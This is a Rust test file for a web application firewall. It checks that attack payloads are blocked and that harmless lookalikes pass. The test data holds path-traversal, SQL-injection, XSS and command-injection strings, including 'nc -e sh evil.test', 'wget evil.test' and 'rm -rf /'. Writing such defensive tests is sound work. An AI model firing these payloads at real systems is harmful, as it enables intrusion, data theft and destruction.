use http::{HeaderValue, header::HeaderName};

use super::*;

fn policy(waf: RouteWaf) -> RouteWafPolicy {
    let mut route: RouteConfig =
        toml::from_str("name = \"api\"\npath_prefix = \"/\"\nupstream = \"fleet\"\n")
            .expect("route");
    route.waf = waf;
    Waf::new(&[route]).routes.remove("api").expect("policy")
}

fn map(headers: &[(&str, &str)]) -> HeaderMap {
    let mut map = HeaderMap::new();
    for (name, value) in headers {
        map.append(
            HeaderName::try_from(*name).expect("name"),
            HeaderValue::from_str(value).expect("value"),
        );
    }
    map
}

fn head_check(
    policy: &RouteWafPolicy,
    target: &str,
    headers: &[(&str, &str)],
) -> Result<(), Verdict> {
    let (path, query) = match target.split_once('?') {
        Some((path, query)) => (path, Some(query)),
        None => (target, None),
    };
    let map = map(headers);
    policy.check_head(
        "api",
        &Head {
            method: &Method::GET,
            path,
            query,
            headers: &map,
        },
    )
}

fn body_check(policy: &RouteWafPolicy, content_type: &str, body: &str) -> Result<(), Verdict> {
    let mut map = HeaderMap::new();
    map.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_str(content_type).expect("value"),
    );
    policy.check_body(
        "api",
        &Head {
            method: &Method::POST,
            path: "/",
            query: None,
            headers: &map,
        },
        &Bytes::copy_from_slice(body.as_bytes()),
    )
}

fn blocked_by(result: Result<(), Verdict>) -> Option<String> {
    match result {
        Err(Verdict::Block { rule, .. }) => Some(rule),
        _ => None,
    }
}

/// Attacks in the request target: (target, expected rule class prefix).
const TARGET_ATTACKS: &[(&str, &str)] = &[
    ("/files/../../etc/passwd", "traversal"),
    ("/files/%2e%2e/%2e%2e/etc/passwd", "traversal"),
    ("/files/%252e%252e%252fsecret", "traversal"),
    ("/files/%25252e%25252e%25252fsecret", "traversal"),
    ("/files/%c0%ae%c0%ae/secret", "traversal"),
    ("/files/%e0%80%ae%e0%80%ae/secret", "traversal"),
    ("/download?file=../../../../etc/shadow", "traversal"),
    ("/download?file=..%2f..%2fboot.ini", "traversal"),
    ("/download?file=..\\..\\windows\\win.ini", "traversal"),
    ("/download?file=%2e%2e%5c%2e%2e%5cconfig", "traversal"),
    ("/download?file=/proc/self/environ", "traversal"),
    ("/download?file=%c0%af%c0%afetc", "traversal"),
    (
        "/items?id=1%20UNION%20SELECT%20password%20FROM%20users",
        "sqli",
    ),
    ("/items?id=1+union+all+select+1,2,3", "sqli"),
    ("/items?id=1/**/UNION/**/SELECT/**/1", "sqli"),
    ("/login?user=admin'--", "sqli"),
    ("/login?user=admin'%20or%20'1'='1", "sqli"),
    ("/login?user=x'%20OR%201=1--", "sqli"),
    ("/items?id=1%20or%201=1", "sqli"),
    ("/items?id=1;%20DROP%20TABLE%20users", "sqli"),
    ("/items?id=1;delete%20from%20accounts", "sqli"),
    ("/items?id=1'%20AND%20SLEEP(5)%23", "sqli"),
    ("/items?id=1%20and%20benchmark(1000000,md5(1))", "sqli"),
    ("/items?id=1;%20WAITFOR%20DELAY%20'0:0:5'", "sqli"),
    (
        "/items?q=select%20*%20from%20information_schema.tables",
        "sqli",
    ),
    (
        "/items?id=%2531%2527%2520or%2520%25271%2527%253d%25271",
        "sqli",
    ),
    ("/search?q=<script>alert(1)</script>", "xss"),
    (
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "xss",
    ),
    ("/search?q=<img%20src=x%20onerror=alert(1)>", "xss"),
    ("/search?q=<svg/onload=alert(1)>", "xss"),
    ("/search?q=<body%20onload=alert(1)>", "xss"),
    ("/search?q=javascript:alert(1)", "xss"),
    ("/search?q=<iframe%20src=//evil.test>", "xss"),
    ("/search?q=%253Cscript%253E", "xss"),
    ("/search?q=data:text/html;base64,PHNjcmlwdD4=", "xss"),
    ("/ping?host=127.0.0.1;cat%20/etc/hosts", "traversal"),
    ("/ping?host=127.0.0.1;%20whoami", "cmdi"),
    ("/ping?host=127.0.0.1|id", "cmdi"),
    ("/ping?host=127.0.0.1%26%26curl%20evil.test", "cmdi"),
    ("/ping?host=$(wget%20evil.test)", "cmdi"),
    ("/ping?host=`uname%20-a`", "cmdi"),
    ("/ping?host=x${IFS}cat${IFS}secret", "cmdi"),
    ("/ping?host=x||nc%20-e%20sh%20evil.test", "cmdi"),
];

const HEADER_ATTACKS: &[(&str, &str)] = &[
    ("user-agent", "' or 1=1--"),
    ("referer", "https://x.test/?q=<script>alert(1)</script>"),
    ("x-forwarded-host", "../../etc/passwd"),
    ("cookie", "session=1' UNION SELECT password FROM users--"),
    ("x-api-version", "1; DROP TABLE keys"),
];

const BODY_ATTACKS: &[(&str, &str)] = &[
    ("application/json", r#"{"name": "x' OR '1'='1"}"#),
    (
        "application/json",
        r#"{"items": [{"q": "1 UNION SELECT card FROM payments"}]}"#,
    ),
    ("application/json", r#"{"bio": "<script>steal()</script>"}"#),
    ("application/json", r#"{"path": "../../../etc/passwd"}"#),
    ("application/json", r#"{"host": "8.8.8.8; rm -rf /"}"#),
    (
        "application/x-www-form-urlencoded",
        "user=admin%27--&pass=x",
    ),
    (
        "application/x-www-form-urlencoded",
        "comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
    ),
    ("text/plain", "<iframe src=//evil.test></iframe>"),
];

#[test]
fn attack_battery_is_blocked() {
    let waf = policy(RouteWaf::default());
    let mut count = 0;
    for (target, class) in TARGET_ATTACKS {
        let rule = blocked_by(head_check(&waf, target, &[]))
            .unwrap_or_else(|| panic!("not blocked: {target}"));
        assert!(
            rule.starts_with(class),
            "{target} blocked by {rule}, expected {class}"
        );
        count += 1;
    }
    for (name, value) in HEADER_ATTACKS {
        assert!(
            blocked_by(head_check(&waf, "/", &[(name, value)])).is_some(),
            "not blocked: {name}: {value}"
        );
        count += 1;
    }
    for (content_type, body) in BODY_ATTACKS {
        assert!(
            blocked_by(body_check(&waf, content_type, body)).is_some(),
            "not blocked: {body}"
        );
        count += 1;
    }
    assert!(count >= 50, "only {count} attack payloads");
}

#[test]
fn benign_lookalikes_pass() {
    let html = policy(RouteWaf::default());
    let api = policy(RouteWaf {
        renders_html: false,
        ..RouteWaf::default()
    });
    let targets = [
        "/search?q=select%20shoes",
        "/search?q=select+shoes+for+running",
        "/search?q=union+station+opening+hours",
        "/search?q=drop+shipping",
        "/people?name=O'Brien",
        "/people?name=O%27Brien",
        "/versions?range=1..5",
        "/versions?range=v1.2..v1.4",
        "/notes?text=wait...what",
        "/search?q=rock+%27n%27+roll",
        "/search?q=cats+%26+dogs",
        "/search?q=fish+and+chips+%3D+dinner",
        "/search?q=id",
        "/files/report..final.pdf",
        "/search?q=1%2B1%3D2",
        "/search?q=percent+100%25",
        "/search?q=C%2B%2B+%26+Rust",
        "/a/b/c.json?sort=-created_at&page=2",
        "/search?q=email%40example.com",
        "/search?q=sleep+apnea",
    ];
    for target in targets {
        assert_eq!(head_check(&html, target, &[]), Ok(()), "{target}");
    }
    let headers = [
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        ),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("authorization", "Bearer ' or 1=1--"),
        ("cookie", "theme=dark; lang=en"),
    ];
    assert_eq!(head_check(&html, "/", &headers), Ok(()));
    for body in [
        r#"{"name": "O'Brien", "city": "Dún Laoghaire"}"#,
        r#"{"query": "select shoes", "size": 42}"#,
        r#"{"comment": "I <3 this; works great -- really"}"#,
        r#"{"title": "Use <b>bold</b> sparingly"}"#,
    ] {
        assert_eq!(body_check(&api, "application/json", body), Ok(()), "{body}");
    }
    assert_eq!(
        body_check(
            &api,
            "application/x-www-form-urlencoded",
            "name=O%27Brien&q=select+shoes"
        ),
        Ok(())
    );
    // The same <b> is an attack where the route renders HTML.
    assert_eq!(
        blocked_by(body_check(
            &html,
            "application/json",
            r#"{"title": "<b>hi</b>"}"#
        ))
        .as_deref(),
        Some("xss-005")
    );
}

#[test]
fn monitor_mode_and_rule_modes_pass_but_block_mode_blocks() {
    let monitor = policy(RouteWaf {
        mode: WafMode::Monitor,
        ..RouteWaf::default()
    });
    assert_eq!(head_check(&monitor, "/?q=<script>", &[]), Ok(()));
    let mut rule_modes = BTreeMap::new();
    rule_modes.insert("xss-001".to_owned(), WafMode::Monitor);
    let mixed = policy(RouteWaf {
        rule_modes,
        disabled_rules: vec!["sqli-003".to_owned()],
        ..RouteWaf::default()
    });
    assert_eq!(head_check(&mixed, "/?q=<script%20src=x", &[]), Ok(()));
    assert_eq!(head_check(&mixed, "/?q=admin'--", &[]), Ok(()));
    assert!(blocked_by(head_check(&mixed, "/?q=javascript:x", &[])).is_some());
}

#[test]
fn smuggling_shapes_are_anomalies() {
    for headers in [
        vec![("content-length", "5"), ("transfer-encoding", "chunked")],
        vec![("content-length", "5"), ("content-length", "6")],
        vec![("transfer-encoding", "chunked, identity")],
        vec![("transfer-encoding", "xchunked")],
        vec![
            ("transfer-encoding", "chunked"),
            ("transfer-encoding", "chunked"),
        ],
    ] {
        assert!(
            matches!(check_protocol(&map(&headers)), Err(Verdict::Anomaly(_))),
            "{headers:?}"
        );
    }
    assert_eq!(
        check_protocol(&map(&[("transfer-encoding", "chunked")])),
        Ok(())
    );
    assert_eq!(check_protocol(&map(&[("content-length", "5")])), Ok(()));
}

#[test]
fn content_types_and_custom_rules() {
    let waf = policy(RouteWaf {
        content_types: vec!["application/json".to_owned()],
        rules: vec![
            CustomRule {
                id: "no-old-clients".to_owned(),
                field: "header:user-agent".to_owned(),
                operator: Operator::Regex,
                value: "^OldClient/[0-2]\\.".to_owned(),
                action: WafMode::Block,
            },
            CustomRule {
                id: "no-debug".to_owned(),
                field: "query".to_owned(),
                operator: Operator::Contains,
                value: "debug=1".to_owned(),
                action: WafMode::Block,
            },
        ],
        ..RouteWaf::default()
    });
    assert_eq!(
        head_check(
            &waf,
            "/",
            &[("content-length", "2"), ("content-type", "text/xml")]
        ),
        Err(Verdict::ContentType("text/xml".to_owned()))
    );
    assert_eq!(
        head_check(
            &waf,
            "/",
            &[
                ("content-length", "2"),
                ("content-type", "application/json; charset=utf-8")
            ]
        ),
        Ok(())
    );
    assert_eq!(
        blocked_by(head_check(&waf, "/", &[("user-agent", "OldClient/1.9")])).as_deref(),
        Some("no-old-clients")
    );
    assert_eq!(
        head_check(&waf, "/", &[("user-agent", "OldClient/3.0")]),
        Ok(())
    );
    assert_eq!(
        blocked_by(head_check(&waf, "/?a=b&debug=1", &[])).as_deref(),
        Some("no-debug")
    );
}

#[test]
fn json_schema_failures_name_the_path() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("person.json");
    std::fs::write(
        &path,
        r#"{"type": "object", "required": ["name"], "properties": {"name": {"type": "string"}, "tags": {"type": "array", "items": {"type": "string"}}}}"#,
    )
    .expect("schema file");
    let waf = policy(RouteWaf {
        json_schema: Some(path),
        renders_html: false,
        ..RouteWaf::default()
    });
    assert!(waf.needs_whole_body());
    assert_eq!(
        body_check(
            &waf,
            "application/json",
            r#"{"name": "O'Brien", "tags": ["a"]}"#
        ),
        Ok(())
    );
    match body_check(
        &waf,
        "application/json",
        r#"{"name": "x", "tags": ["a", 7]}"#,
    ) {
        Err(Verdict::Schema { path, message }) => {
            assert_eq!(path, "/tags/1");
            assert!(message.contains("string"), "{message}");
        }
        other => panic!("expected a schema failure, got {other:?}"),
    }
    assert!(matches!(
        body_check(&waf, "application/json", "{\"tags\": []}"),
        Err(Verdict::Schema { .. })
    ));
    assert!(matches!(
        body_check(&waf, "application/json", "not json"),
        Err(Verdict::Schema { path, .. }) if path.is_empty()
    ));
    let problems = RouteWaf {
        json_schema: Some(dir.path().join("missing.json")),
        ..RouteWaf::default()
    }
    .problems("route[0].waf");
    assert!(
        problems[0].starts_with("route[0].waf.json_schema: cannot read"),
        "{problems:?}"
    );
}
